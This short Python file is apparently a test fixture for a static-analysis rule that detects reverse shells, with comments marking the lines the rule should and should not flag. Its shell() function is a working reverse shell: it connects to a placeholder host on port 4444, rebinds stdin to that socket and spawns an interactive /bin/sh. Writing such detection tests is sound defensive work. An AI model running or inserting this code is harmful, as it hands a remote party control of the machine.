import os
import pty
import socket
import subprocess


def shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("10.0.0.1", 4444))
    # ruleid: python-reverse-shell
    os.dup2(s.fileno(), 0)
    subprocess.call(["/bin/sh", "-i"])


def redirect(log):
    # ok: python-reverse-shell
    os.dup2(log.fileno(), 1)
